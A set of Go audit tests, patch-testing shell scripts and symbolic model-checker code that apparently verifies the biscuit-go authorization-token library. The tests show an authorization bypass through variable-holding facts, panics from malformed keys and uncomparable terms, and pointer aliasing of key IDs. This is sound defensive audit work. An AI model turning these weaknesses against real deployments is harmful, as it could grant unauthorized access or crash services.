	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			syms := &datalog.SymbolTable{"p", "q"}
			for k := 0; k < 200; k++ {
				c := base.Clone()
				c.AddRule(datalog.Rule{ // q(g) <- p(0)
					Head: datalog.Predicate{Name: q, Terms: []datalog.Term{datalog.Integer(g)}},
					Body: []datalog.Predicate{{Name: p, Terms: []datalog.Term{datalog.Integer(0)}}},
				})
				if err := c.Run(syms); err != nil {
					bad[g] = true
					return
				}
				fs := c.Facts()
				if len(*fs) != 4 || !c05Has(fs, c05Fact(q, datalog.Integer(g))) {
					bad[g] = true
				}
			}
		}(g)
	}
	wg.Wait()
	for g, b := range bad {
		if b {
			t.Errorf("goroutine %d: the model of its clone is not {p(0),p(1),p(2),q(%d)}", g, g)
		}
	}
}

// ---------------------------------------------------------------------------------------------------
// Finding 2: a fact that holds a variable is accepted everywhere (World.AddFact, Builder, Serialize,
// Unmarshal, Authorize) and Predicate.Match (datalog/datalog.go:176-191) lets a variable on the FACT
// side match any constant of a rule body.
// ---------------------------------------------------------------------------------------------------

func TestC05NonGroundFactEngine(t *testing.T) {
	syms := &datalog.SymbolTable{}
	p, q := syms.Insert("p"), syms.Insert("q")
	w := datalog.NewWorld(datalog.WithMaxDuration(10 * time.Second))
	w.AddFact(c05Fact(p, datalog.Variable(5)))
	w.AddRule(datalog.Rule{ // q(1) <- p(42)
		Head: datalog.Predicate{Name: q, Terms: []datalog.Term{datalog.Integer(1)}},
		Body: []datalog.Predicate{{Name: p, Terms: []datalog.Term{datalog.Integer(42)}}},
	})
	if err := w.Run(syms); err != nil {
		t.Fatal(err)
	}
	if c05Has(w.Facts(), c05Fact(q, datalog.Integer(1))) {
		t.Errorf("q(1) <- p(42) fired although there is no fact p(42): %v", *w.Facts())
	}
}

func TestC05NonGroundFactThroughToken(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	b := NewBuilder(priv)
	if err := b.AddAuthorityFact(Fact{Predicate{Name: "right", IDs: []Term{Variable("f")}}}); err != nil {
		return // refused: no violation
	}
	tok, err := b.Build()
	if err != nil {
		return
	}
	ser, err := tok.Serialize()
	if err != nil {
		return
	}
	tok2, err := Unmarshal(ser)
	if err != nil {
		return
	}
	a, err := tok2.Authorizer(pub, WithWorldOptions(datalog.WithMaxDuration(10*time.Second)))
	if err != nil {
		return
	}
	a.AddPolicy(Policy{Kind: PolicyKindAllow, Queries: []Rule{{
		Head: Predicate{Name: "allow"},
		Body: []Predicate{{Name: "right", IDs: []Term{String("anything")}}},
	}}})
	if err := a.Authorize(); err == nil {
		t.Errorf("allow if right(\"anything\") succeeded: the decoded fact right($f) matched the constant")
	}
}

// ---------------------------------------------------------------------------------------------------
// Finding 3 (near scope: World.Query, the predicate query, not QueryRule): terms are compared with !=
// on interface values (datalog/datalog.go:447), which panics for Bytes and Set.
// ---------------------------------------------------------------------------------------------------

func TestC05WorldQueryUncomparable(t *testing.T) {
	defer func() {
		if r := recover(); r != nil {
			t.Errorf("World.Query panicked: %v", r)
		}
	}()
	p := datalog.String(1024)
	w := datalog.NewWorld()
	w.AddFact(c05Fact(p, datalog.Bytes{1, 2}))
	res := w.Query(datalog.Predicate{Name: p, Terms: []datalog.Term{datalog.Bytes{1, 2}}})
	if len(*res) != 1 {
		t.Errorf("got %v, want [p(hex:0102)]", *res)
	}
}
