// C16 audit demo. Belongs to the repository root directory (package biscuit, next to biscuit.go).
// Run: go test -run TestC16 -v .
// Every test below FAILS on the unchanged library.
package biscuit

import (
	"crypto/ed25519"
	"crypto/rand"
	"testing"
)

func c16Token(t *testing.T, priv ed25519.PrivateKey, id *uint32) *Biscuit {
	t.Helper()
	var opts []builderOption
	if id != nil {
		opts = append(opts, WithRootKeyID(*id))
	}
	b := NewBuilder(priv, opts...)
	if err := b.AddAuthorityFact(Fact{Predicate{Name: "right", IDs: []Term{String("read")}}}); err != nil {
		t.Fatal(err)
	}
	tok, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	return tok
}

func c16Attenuate(t *testing.T, tok *Biscuit, name string) *Biscuit {
	t.Helper()
	bb := tok.CreateBlock()
	if err := bb.AddFact(Fact{Predicate{Name: name, IDs: []Term{String(name + "v")}}}); err != nil {
		t.Fatal(err)
	}
	out, err := tok.Append(rand.Reader, bb.Build())
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func u32(v uint32) *uint32 { return &v }

// A: pointer aliasing
func TestC16Alias(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	otherPub, _, _ := ed25519.GenerateKey(rand.Reader)
	tok := c16Token(t, priv, u32(7))
	child := c16Attenuate(t, tok, "a1")
	sealed, _ := child.Seal(rand.Reader)

	got := sealed.RootKeyID()
	*got = 8 // caller modifies the value it was handed
	if *tok.RootKeyID() != 7 {
		t.Errorf("parent id changed to %d by writing through the pointer returned by a derived token", *tok.RootKeyID())
	}
	if *child.RootKeyID() != 7 {
		t.Errorf("child id changed to %d", *child.RootKeyID())
	}
	keys := map[uint32]ed25519.PublicKey{7: pub, 8: otherPub}
	if _, err := tok.AuthorizerFor(WithRootPublicKeys(keys, nil)); err != nil {
		t.Errorf("parent no longer verifies against key 7: %v", err)
	}
}

// A2: projection receives the internal pointer
func TestC16AliasProjection(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	tok := c16Token(t, priv, u32(7))
	_, err := tok.AuthorizerFor(func(id *uint32) (ed25519.PublicKey, error) {
		*id = 0
		return pub, nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if *tok.RootKeyID() != 7 {
		t.Errorf("id changed to %d", *tok.RootKeyID())
	}
}

// B: wrong-length key panics
func TestC16BadLenKey(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	tok := c16Token(t, priv, u32(7))
	for _, k := range []ed25519.PublicKey{pub[:31], append(append(ed25519.PublicKey{}, pub...), 0), {1}} {
		func() {
			defer func() {
				if r := recover(); r != nil {
					t.Errorf("len %d: panic: %v", len(k), r)
				}
			}()
			_, err := tok.AuthorizerFor(WithRootPublicKeys(map[uint32]ed25519.PublicKey{7: k}, &pub))
			if err == nil {
				t.Errorf("len %d: accepted", len(k))
			}
			t.Logf("len %d: err %v", len(k), err)
		}()
	}
}
