#!/bin/sh
# usage: seedtest.sh <patch.diff> <property> [tier]   -- apply a seeded change to /repo, run the check, undo
patch=$1; prop=$2; tier=${3:-quick}
cd /verif
git -C /repo diff --quiet || { echo "/repo is dirty"; exit 3; }
git -C /repo apply "$patch" || exit 3
./gosym/gosym check $prop -tier $tier > out/seedtest_$prop.log 2>&1
rc=$?
git -C /repo checkout -- .
echo "seedtest $prop rc=$rc"
grep "violation:\|INCONCL\|PROBLEM\|^\[$prop\] tier" out/seedtest_$prop.log | cut -c1-260 | head -12
exit $rc
