#!/bin/sh
# usage: seedtest_wt.sh <patch.diff> <property> [tier]  -- like seedtest.sh, but on a scratch worktree of /repo
# (the real tree and the committed evidence are not touched; safe while other checks are running)
patch=$1; prop=$2; tier=${3:-quick}
cd /verif
work=$(mktemp -d /tmp/seedwt.XXXXXX)
git -C /repo worktree add -q --detach "$work/repo" HEAD || exit 3
export VERIF_REPO="$work/repo" VERIF_OUT="$work/out"
mkdir -p "$work/out"
git -C "$work/repo" apply "$patch" || { git -C /repo worktree remove --force "$work/repo"; rm -rf "$work"; exit 3; }
./gosym/gosym check $prop -tier $tier > out/seedtest_$prop.log 2>&1
rc=$?
git -C /repo worktree remove --force "$work/repo"
rm -rf "$work"
echo "seedtest $prop rc=$rc"
grep "violation:\|INCONCL\|PROBLEM\|^\[$prop\] tier" out/seedtest_$prop.log | cut -c1-260 | head -12
exit $rc
