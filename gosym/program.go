package main

// Loading /repo (with the harness injected by overlay), SSA construction, and static lookups.

import (
	"fmt"
	"go/types"
	"os"
	"path/filepath"
	"strings"
	"sync"

	"golang.org/x/tools/go/packages"
	"golang.org/x/tools/go/ssa"
	"golang.org/x/tools/go/ssa/ssautil"
	"golang.org/x/tools/go/types/typeutil"
)

type interceptFn func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value

type Program struct {
	prog           *ssa.Program
	pkgs           []*packages.Package
	harnessPkg     *ssa.Package
	byPath         map[string]*ssa.Package
	intercepts     map[string]interceptFn
	icache         sync.Map // *ssa.Function -> interceptFn or nil marker
	runtimeErrType types.Type
	countFns       bool
	branchProfile  bool
	debugAbort     bool
	permuteMaps    bool
	sizes          types.Sizes
	mu             sync.Mutex
	msCache        typeutil.MethodSetCache
	initOK         map[string]bool
	repoDir        string
	loadSecs       float64
	rtypeMarker    types.Type
}

type noIntercept struct{}

// LoadProgram loads the repo packages with overlay files (map from path under repo to content).
func LoadProgram(repoDir string, overlay map[string][]byte, patterns []string) (*Program, error) {
	cfg := &packages.Config{
		Mode:    packages.LoadAllSyntax,
		Dir:     repoDir,
		Overlay: overlay,
		Env:     append(os.Environ(), "GOFLAGS=-mod=mod", "GOPROXY=off", "GOSUMDB=off", "GOTOOLCHAIN=local"),
	}
	pkgs, err := packages.Load(cfg, patterns...)
	if err != nil {
		return nil, err
	}
	var errs []string
	packages.Visit(pkgs, nil, func(p *packages.Package) {
		for _, e := range p.Errors {
			errs = append(errs, e.Error())
		}
	})
	if len(errs) > 0 {
		if len(errs) > 20 {
			errs = errs[:20]
		}
		return nil, fmt.Errorf("package errors:\n%s", strings.Join(errs, "\n"))
	}
	prog, _ := ssautil.AllPackages(pkgs, ssa.InstantiateGenerics)
	prog.Build()
	P := &Program{prog: prog, pkgs: pkgs, byPath: map[string]*ssa.Package{}, intercepts: map[string]interceptFn{}, repoDir: repoDir}
	for _, p := range prog.AllPackages() {
		P.byPath[p.Pkg.Path()] = p
	}
	P.sizes = types.SizesFor("gc", "amd64")
	// runtime error type: use the named type runtime.Error's implementation stand-in: a named string type
	P.runtimeErrType = types.NewNamed(types.NewTypeName(0, nil, "runtime.Error", nil), types.Typ[types.String], nil)
	P.initOK = map[string]bool{}
	registerModels(P)
	return P, nil
}

func (P *Program) pkg(path string) *ssa.Package { return P.byPath[path] }

func (P *Program) initAllowed(pkg *ssa.Package) bool {
	return P.initOK[pkg.Pkg.Path()]
}

func (P *Program) intercept(fn *ssa.Function) interceptFn {
	if v, ok := P.icache.Load(fn); ok {
		if f, ok := v.(interceptFn); ok {
			return f
		}
		return nil
	}
	name := fn.String()
	if o := fn.Origin(); o != nil {
		name = o.String()
	}
	if f, ok := P.intercepts[name]; ok {
		P.icache.Store(fn, f)
		return f
	}
	// participle builds its grammar by reflection: its functions are never interpreted. The only calls
	// reached by encoded code are those of package initialisers (parser options); they yield zero values.
	pk := fn.Pkg
	if pk == nil && fn.Origin() != nil {
		pk = fn.Origin().Pkg
	}
	if pk != nil && strings.HasPrefix(pk.Pkg.Path(), "github.com/alecthomas/participle/v2") {
		f := interceptFn(func(ex *Exec, th *Thread, caller *frame, fn *ssa.Function, args []Value) Value {
			res := fn.Signature.Results()
			switch res.Len() {
			case 0:
				return nil
			case 1:
				return zero(res.At(0).Type())
			}
			return zero(res)
		})
		P.icache.Store(fn, f)
		return f
	}
	P.icache.Store(fn, noIntercept{})
	return nil
}

func (P *Program) lookupMethod(t types.Type, meth *types.Func) *ssa.Function {
	P.mu.Lock()
	defer P.mu.Unlock()
	ms := P.msCache.MethodSet(t)
	sel := ms.Lookup(meth.Pkg(), meth.Name())
	if sel == nil {
		return nil
	}
	return P.prog.MethodValue(sel)
}

func (P *Program) lookupMethodByName(t types.Type, pkg *types.Package, name string) *ssa.Function {
	P.mu.Lock()
	defer P.mu.Unlock()
	ms := P.msCache.MethodSet(t)
	sel := ms.Lookup(pkg, name)
	if sel == nil {
		return nil
	}
	return P.prog.MethodValue(sel)
}

func (P *Program) implements(t types.Type, itf *types.Interface) bool {
	P.mu.Lock()
	defer P.mu.Unlock()
	return types.Implements(t, itf)
}

func (P *Program) sizeof(t types.Type) int64 {
	defer func() { recover() }()
	return P.sizes.Sizeof(t)
}

func (P *Program) hasPointers(t types.Type) bool {
	switch u := t.Underlying().(type) {
	case *types.Basic:
		return u.Info()&types.IsString != 0 || u.Kind() == types.UnsafePointer
	case *types.Array:
		return P.hasPointers(u.Elem())
	case *types.Struct:
		for i := 0; i < u.NumFields(); i++ {
			if P.hasPointers(u.Field(i).Type()) {
				return true
			}
		}
		return false
	}
	return true
}

// findFunc finds a package-level function by package path and name.
func (P *Program) findFunc(pkgPath, name string) *ssa.Function {
	p := P.byPath[pkgPath]
	if p == nil {
		return nil
	}
	return p.Func(name)
}

func readOverlay(repoDir string, files map[string]string) (map[string][]byte, error) {
	ov := map[string][]byte{}
	for rel, src := range files {
		b, err := os.ReadFile(src)
		if err != nil {
			return nil, err
		}
		ov[filepath.Join(repoDir, rel)] = b
	}
	return ov, nil
}
