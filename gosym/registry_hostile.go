package main

func init() {
	checks = append(checks, &CheckSpec{
		Prop:    "C10",
		Harness: hb(),
		Entries: []EntrySpec{
			{Pkg: "biscuit", Func: "VerifC10Block", Quick: p("ops", 2, "arities", 1, "sealed", 1, "setsecond", 2), Thorough: p("ops", 2, "arities", 3, "sealed", 2, "setsecond", 3), Covers: []string{"unmarshalled", "verified", "rejected-at-unmarshal"}},
			{Pkg: "biscuit", Func: "VerifC10Envelope", Quick: p("arities", 1, "setsecond", 2), Thorough: p("arities", 1, "setsecond", 2), Covers: []string{"unmarshalled", "rejected-at-unmarshal"}},
			{Pkg: "biscuit", Func: "VerifC10ValidChainBadProof", Quick: p("arities", 1, "setsecond", 2), Thorough: p("arities", 1, "setsecond", 2), Covers: []string{"unmarshalled"}},
			{Pkg: "biscuit", Func: "VerifC10LeakedWork", Quick: p("arities", 1, "setsecond", 2), Thorough: p("arities", 1, "setsecond", 2), Covers: []string{"evaluated"}, Race: true},
			{Pkg: "biscuit", Func: "VerifC10Policies", Quick: p("ops", 2, "arities", 1, "sealed", 1, "setsecond", 2), Thorough: p("ops", 2, "arities", 3, "sealed", 1, "setsecond", 3), Covers: []string{"loaded"}},
		},
		Assumptions: append([]string{
			"hostile inputs are schema-valid protobuf messages (required fields present) with every scalar symbolic: predicate names / string indexes full 64-bit, variables 32-bit, integers 64-bit, versions 32-bit, every enum any int32, byte fields of adversarial lengths, empty oneofs, nested/empty/nil sets, ill-formed operator sequences",
			"one element of a block (fact term, rule head, rule body, expression, check, block metadata) is fully adversarial at a time, the rest minimal; envelopes: key/secret lengths {0,31,32,33}, signature lengths {0,63,64,65}, any algorithm number, all proof shapes",
			"arbitrary byte strings that are not encodings of schema-valid messages are outside: the protobuf byte decoder is trusted",
		}, stdAssumptions...),
		Models:      []string{modelSig, modelCodec, modelCtx, modelBig},
		Explanation: "every public operation is executed symbolically on tokens decoded from adversarial messages that are validly signed by an attacker-chosen root; any panic leaving any goroutine is a violation; messages are encoded as a hand-written encoder can (required fields may be absent) and decoded with the acceptance rules measured on protobuf-go 1.34; one entry runs with the race log on: a library goroutine that still writes after Authorize/Query returned is a data race with the caller (replayed under -race)",
		LevelText:   "Bounded symbolic model checking of crash freedom: Unmarshal, String, Code, RevocationIds, GetBlockID, Serialize, AuthorizerFor under two keys, Authorize, Query, PrintWorld, CreateBlock/Append, Seal and LoadPolicies are run on adversarial messages with symbolic field values; the interpreter models Go's runtime panics (nil dereference, index and slice bounds, failed assertions, unhashable keys, divide by zero) on every goroutine.",
		LevelNote:   "Message-level (ideal codec with the real decoder's required-field behaviour); families of hostile elements explored one at a time; sizes as listed. Resource exhaustion (time, memory) is not expressible and outside.",
		DesignRef:   "DESIGN.md §6 C10",
	})
}
