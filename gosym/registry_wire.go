package main

func init() {
	checks = append(checks, &CheckSpec{
		Prop:    "C07",
		Harness: hb("c07_wire.go"),
		Entries: []EntrySpec{
			{Pkg: "biscuit", Func: "VerifC07Wire", Quick: p("namelen", 1, "blkfocus", 0, "symterms", 1), Thorough: p("namelen", 4, "blkfocus", 0, "symterms", 0), Covers: []string{"decoded", "roundtrip"}},
			{Pkg: "biscuit", Func: "VerifC07Wire", Quick: p("namelen", 1, "blkfocus", 0, "symterms", 1, "padblocks", 3), Thorough: p("namelen", 1, "blkfocus", 0, "symterms", 1, "padblocks", 3), Covers: []string{"decoded", "roundtrip"}},
			{Pkg: "biscuit", Func: "VerifC07Wire", Quick: nil, Thorough: p("namelen", 1, "blkfocus", 0, "symterms", 1), Covers: []string{"decoded", "roundtrip"}},
			{Pkg: "biscuit", Func: "VerifC07Defaults", Quick: p("namelen", 4), Thorough: p("namelen", 5), Covers: []string{"decoded", "default-or-shared-symbol"}},
			{Pkg: "biscuit", Func: "VerifC07Version", Quick: p("arities", 1, "setsecond", 2), Thorough: p("arities", 1, "setsecond", 2), Covers: []string{"checked"}},
		},
		Assumptions: append([]string{
			"two blocks (authority + one appended block sharing symbols); per block one fact, and one of: a fact term of any kind (all 7 incl. sets), a rule body term, a rule expression X [unary] operand <binary> covering all 3 unary and 17 binary operator codes, a check with two queries, a context string; names are symbolic strings of length 1 (quick) / 4 and 5 (thorough: lengths at which default symbols such as read, time, role, user, owner, right, admin can be hit)",
			"the observation is made at MESSAGE level: the pb.Block / pb.Biscuit messages are decoded by an independent resolver written from biscuit.proto and the symbol rules; field numbers and wire types (generated code + protobuf-go) are trusted, so the property's independent byte-level reader is NOT reproduced",
		}, stdAssumptions...),
		Models:      []string{modelSig, modelCodec},
		Explanation: "builder -> converters -> message is executed symbolically and the message is checked by an independent decoder (own copy of the default table, offset 1024, per-block tables of new symbols only, schema operator numbers as literals); then Unmarshal(Serialize) is checked to preserve content, ids, key id and bytes",
		LevelText:   "Bounded symbolic model checking of the encoding path: every symbol index of block i resolves through default + tables of blocks <= i to the caller's text; per-block tables hold only new symbols; every term kind, every operator code, context and version 3 are carried; the round trip reproduces content, revocation ids, root key id and the same bytes; version != 3 (any uint32, or absent) is rejected.",
		LevelNote:   "Message level only (ideal codec). Dates: any instant whose seconds fit 64 bits. A fork family puts three blocks between authority and the block under test and appends a sibling before the bytes are read.",
		DesignRef:   "DESIGN.md §6 C07",
	})
}
