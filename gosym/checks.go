package main

// `gosym check <property>`: builds the overlay, explores every harness entry of the property,
// replays counterexamples natively, matches known findings, writes evidence, sets the exit code.

import (
	"encoding/json"
	"fmt"
	"math/rand"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"time"
)

const modRoot = "github.com/biscuit-auth/biscuit-go/v2"

type EntrySpec struct {
	Pkg      string         // "datalog", "biscuit", "parser"
	Func     string
	Quick    map[string]int // parameters (vParam) for quick tier; nil => entry skipped in quick
	Thorough map[string]int
	Covers   []string // cover points that must be reached
	Solver   string   // default z3-new
	MaxSteps int
	NoConcolic bool
	Race     bool // replay with -race
}

type CheckSpec struct {
	Prop     string
	Harness  []string // files under /verif/harness
	Entries  []EntrySpec
	Assumptions []string
	Models   []string
	Explanation string
	LevelText string
	LevelNote string
	DesignRef string
	Disabled  bool
	// Gen produces extra overlay files (path relative to the repo root -> content) from the current tree
	Gen func(repo string) (map[string][]byte, error)
}

type KnownFinding struct {
	Property string `json:"property"`
	Status   string `json:"status"` // "known" or "fixed"
	Pattern  string `json:"pattern"`
	What     string `json:"what"`
	Commit   string `json:"commit,omitempty"`
}

func pkgDir(pkg string) string {
	switch pkg {
	case "biscuit":
		return ""
	}
	return pkg
}

func pkgPath(pkg string) string {
	if pkg == "biscuit" {
		return modRoot
	}
	return modRoot + "/" + pkg
}

func verifRoot() string {
	if v := os.Getenv("VERIF_ROOT"); v != "" {
		return v
	}
	return "/verif"
}

func repoRoot() string {
	if v := os.Getenv("VERIF_REPO"); v != "" {
		return v
	}
	return "/repo"
}

var pkgClauseRe = regexp.MustCompile(`(?m)^package (\w+)`)

// buildOverlay returns (symbolic overlay, native overlay file map rel->content, entries per pkg)
func buildOverlay(spec *CheckSpec) (map[string][]byte, map[string][]byte, error) {
	hdir := filepath.Join(verifRoot(), "harness")
	sym := map[string][]byte{}
	nat := map[string][]byte{}
	pkgs := map[string]bool{}
	files := append([]string{"models_datalog.go"}, spec.Harness...)
	for _, f := range files {
		b, err := os.ReadFile(filepath.Join(hdir, f))
		if err != nil {
			return nil, nil, err
		}
		m := pkgClauseRe.FindSubmatch(b)
		if m == nil {
			return nil, nil, fmt.Errorf("%s: no package clause", f)
		}
		pkg := string(m[1])
		rel := filepath.Join(pkgDir(pkg), "zz_verif_"+strings.TrimSuffix(f, ".go")+".go")
		sym[rel] = b
		if strings.HasPrefix(f, "lib_") {
			// helper compiled into the package proper (also natively); must not use intrinsics
			nat[rel] = b
			continue
		}
		pkgs[pkg] = true
		// native: harness goes into a _test file so that it can use the test-only intrinsics
		nat[filepath.Join(pkgDir(pkg), "zz_verif_"+strings.TrimSuffix(f, ".go")+"_test.go")] = b
	}
	if spec.Gen != nil {
		extra, err := spec.Gen(repoRoot())
		if err != nil {
			return nil, nil, err
		}
		for rel, content := range extra {
			sym[rel] = content
			nat[strings.TrimSuffix(rel, ".go")+"_test.go"] = content
			if m := pkgClauseRe.FindSubmatch(content); m != nil {
				pkgs[string(m[1])] = true
			}
		}
	}
	intr, err := os.ReadFile(filepath.Join(hdir, "intr_sym.tmpl"))
	if err != nil {
		return nil, nil, err
	}
	natIntr, err := os.ReadFile(filepath.Join(hdir, "intr_native.tmpl"))
	if err != nil {
		return nil, nil, err
	}
	for pkg := range pkgs {
		sym[filepath.Join(pkgDir(pkg), "zz_verif_intrinsics.go")] = []byte(strings.Replace(string(intr), "package PKG", "package "+pkg, 1))
		var sb strings.Builder
		sb.WriteString("package " + pkg + "\n\nvar vEntries = map[string]func(){\n")
		seenEntry := map[string]bool{}
		for _, e := range spec.Entries {
			if e.Pkg == pkg && !seenEntry[e.Func] {
				seenEntry[e.Func] = true
				fmt.Fprintf(&sb, "\t%q: %s,\n", e.Func, e.Func)
			}
		}
		sb.WriteString("}\n")
		nat[filepath.Join(pkgDir(pkg), "zz_verif_intrinsics_test.go")] = []byte(strings.Replace(string(natIntr), "package PKG", "package "+pkg, 1))
		nat[filepath.Join(pkgDir(pkg), "zz_verif_entries_test.go")] = []byte(sb.String())
	}
	return sym, nat, nil
}

type replayCase struct {
	Entry   string         `json:"entry"`
	Values  []string       `json:"values"`
	Choices []int          `json:"choices"`
	Params  map[string]int `json:"params"`
}

type replayOut struct {
	Lines   []string
	Began   bool
	Ended   bool
}

// nativeRun executes cases natively (go test with overlay) for one package. Returns per-case outputs and raw output.
func nativeRun(nat map[string][]byte, pkg string, cases []replayCase, race bool, workDir string, timeout time.Duration) ([]replayOut, string, error) {
	os.MkdirAll(workDir, 0o755)
	repl := map[string]string{}
	i := 0
	for rel, content := range nat {
		p := filepath.Join(workDir, fmt.Sprintf("ov_%d_%s", i, filepath.Base(rel)))
		i++
		if err := os.WriteFile(p, content, 0o644); err != nil {
			return nil, "", err
		}
		repl[filepath.Join(repoRoot(), rel)] = p
	}
	ovj, _ := json.Marshal(map[string]interface{}{"Replace": repl})
	ovPath := filepath.Join(workDir, "overlay.json")
	os.WriteFile(ovPath, ovj, 0o644)
	cj, _ := json.Marshal(cases)
	casesPath := filepath.Join(workDir, "cases.json")
	os.WriteFile(casesPath, cj, 0o644)
	args := []string{"test", "-vet=off", "-count=1", "-overlay", ovPath, "-run", "^TestVerifReplay$", "-v", "-timeout", fmt.Sprintf("%ds", int(timeout.Seconds()))}
	if race {
		args = append(args, "-race")
	}
	dir := "./" + pkgDir(pkg)
	if pkgDir(pkg) == "" {
		dir = "."
	}
	args = append(args, dir)
	cmd := exec.Command("go", args...)
	cmd.Dir = repoRoot()
	cmd.Env = append(os.Environ(), "GOFLAGS=-mod=mod", "GOPROXY=off", "GOSUMDB=off", "GOTOOLCHAIN=local", "VERIF_CASES="+casesPath)
	outB, err := cmd.CombinedOutput()
	out := string(outB)
	res := make([]replayOut, len(cases))
	cur := -1
	for _, ln := range strings.Split(out, "\n") {
		ln = strings.TrimRight(ln, "\r")
		if strings.HasPrefix(ln, "VCASE-BEGIN ") {
			cur, _ = strconv.Atoi(strings.TrimPrefix(ln, "VCASE-BEGIN "))
			if cur >= 0 && cur < len(res) {
				res[cur].Began = true
			}
			continue
		}
		if strings.HasPrefix(ln, "VCASE-END ") {
			if cur >= 0 && cur < len(res) {
				res[cur].Ended = true
			}
			cur = -1
			continue
		}
		if cur >= 0 && cur < len(res) {
			res[cur].Lines = append(res[cur].Lines, ln)
		}
	}
	return res, out, err
}

func loadKnown() []KnownFinding {
	b, err := os.ReadFile(filepath.Join(verifRoot(), "known_findings.json"))
	if err != nil {
		return nil
	}
	var k struct {
		Findings []KnownFinding `json:"findings"`
	}
	json.Unmarshal(b, &k)
	return k.Findings
}

func (f *AssertFail) signature() string {
	return f.ID + "|" + f.Kind + "|" + normalizeDetail(f.Detail) + "|" + strings.Join(f.Labels, ",")
}

func checkMain(args []string) int {
	if len(args) < 1 {
		fmt.Println("usage: gosym check <property> [-tier quick|thorough]")
		return 2
	}
	prop := args[0]
	tier := os.Getenv("VERIF_TIER")
	for i := 1; i < len(args); i++ {
		if args[i] == "-tier" && i+1 < len(args) {
			tier = args[i+1]
			i++
		}
	}
	if tier != "thorough" {
		tier = "quick"
	}
	seed := int64(1)
	if s := os.Getenv("VERIF_SEED"); s != "" {
		if v, err := strconv.ParseInt(s, 10, 64); err == nil {
			seed = v
		}
	}
	spec := findCheck(prop)
	if spec == nil {
		fmt.Printf("no check registered for %s\n", prop)
		return 2
	}
	t0 := time.Now()
	sym, nat, err := buildOverlay(spec)
	if err != nil {
		fmt.Println("cannot build overlay:", err)
		return 2
	}
	ov := map[string][]byte{}
	for rel, c := range sym {
		ov[filepath.Join(repoRoot(), rel)] = c
	}
	P, err := LoadProgram(repoRoot(), ov, []string{".", "./datalog", "./parser"})
	if err != nil {
		fmt.Println("CANNOT-RUN: harness does not load against the current tree:", err)
		return 2
	}
	P.countFns = true
	P.debugAbort = true
	P.branchProfile = os.Getenv("GOSYM_BRANCH_PROFILE") != ""
	loadT := time.Since(t0)
	workers := 16
	if s := os.Getenv("VERIF_WORKERS"); s != "" {
		workers, _ = strconv.Atoi(s)
	}

	type entryRun struct {
		spec   EntrySpec
		params map[string]int
		res    *RunResult
	}
	var runs []*entryRun
	exit := 0
	problems := []string{}
	for _, e := range spec.Entries {
		params := e.Quick
		if tier == "thorough" {
			params = e.Thorough
			if params == nil {
				params = e.Quick
			}
		}
		if params == nil {
			continue
		}
		// development aid: VERIF_ONLY=<substring of the entry function> runs a subset (no evidence is written)
		if only := os.Getenv("VERIF_ONLY"); only != "" && !strings.Contains(e.Func, only) {
			continue
		}
		fn := P.findFunc(pkgPath(e.Pkg), e.Func)
		if fn == nil {
			fmt.Printf("CANNOT-RUN: entry %s.%s not found\n", e.Pkg, e.Func)
			return 2
		}
		solver := e.Solver
		if solver == "" {
			solver = "z3-new"
		}
		tmo := 10000
		if tier == "thorough" {
			tmo = 60000
		}
		maxSteps := e.MaxSteps
		if maxSteps == 0 {
			maxSteps = 3000000
		}
		budget := 10 * time.Minute
		if tier == "thorough" {
			budget = 45 * time.Minute
		}
		if s := os.Getenv("VERIF_BUDGET_S"); s != "" {
			if v, err := strconv.Atoi(s); err == nil {
				budget = time.Duration(v) * time.Second
			}
		}
		res := P.Explore(RunConfig{Entry: fn, Workers: workers, Solver: solver, TimeoutMs: tmo, MaxSteps: maxSteps, MaxPaths: 5000000, Params: params,
			Deadline: time.Now().Add(budget), Verbose: os.Getenv("GOSYM_PROGRESS") != ""})
		runs = append(runs, &entryRun{e, params, res})
		fmt.Printf("[%s] %s.%s %v: paths=%d steps=%d %v queries=%d (sat %d unsat %d unknown %d) solver=%.1fs wall=%.1fs\n",
			prop, e.Pkg, e.Func, params, res.Paths, res.Steps, res.ByStatus, res.Queries, res.NSat, res.NUnsat, res.NUnknown, res.SolveTime.Seconds(), res.Wall.Seconds())
		if len(res.EngineErrors) > 0 {
			problems = append(problems, "engine error in "+e.Func+": "+res.EngineErrors[0])
		}
		if res.Incomplete != "" {
			problems = append(problems, "incomplete exploration of "+e.Func+": "+res.Incomplete)
		}
		for r, n := range res.AbortReasons {
			problems = append(problems, fmt.Sprintf("%d path(s) of %s left the modelled fragment: %s", n, e.Func, r))
		}
		// solver timeouts that survived the retry: nothing was found there, nothing was shown either
		for what, n := range res.Inconclusive {
			fmt.Printf("INCONCLUSIVE undecided: property=%s %s: %d time(s) — %s (reduced coverage, recorded in evidence)\n", prop, e.Func, n, what)
		}
		if n := res.ByStatus["deadlock"]; n > 0 {
			problems = append(problems, fmt.Sprintf("%d path(s) of %s deadlocked the harness thread", n, e.Func))
		}
		for _, c := range e.Covers {
			if res.Covers[c] == 0 {
				problems = append(problems, fmt.Sprintf("vacuity: cover point %q of %s not reached", c, e.Func))
			}
		}
		for _, se := range res.SolverErrors {
			problems = append(problems, "solver: "+se)
			break
		}
	}

	// ---- failures: dedup, replay, classify
	known := loadKnown()
	type group struct {
		sig   string
		fails []*AssertFail
		entry *entryRun
	}
	groups := map[string]*group{}
	var order []string
	for _, r := range runs {
		for _, f := range r.res.Fails {
			f.Entry = r.spec.Func
			s := f.signature()
			g := groups[s]
			if g == nil {
				g = &group{sig: s, entry: r}
				groups[s] = g
				order = append(order, s)
			}
			// keep a few witnesses per signature, preferring paths that can be realised natively
			if !f.UFChoice {
				if len(g.fails) < 4 {
					g.fails = append([]*AssertFail{f}, g.fails...)
				} else if g.fails[len(g.fails)-1].UFChoice {
					g.fails = append([]*AssertFail{f}, g.fails[:len(g.fails)-1]...)
				}
			} else if len(g.fails) < 4 {
				g.fails = append(g.fails, f)
			}
		}
	}
	sort.Strings(order)
	outDir := filepath.Join(outRoot(), "out", "replay")
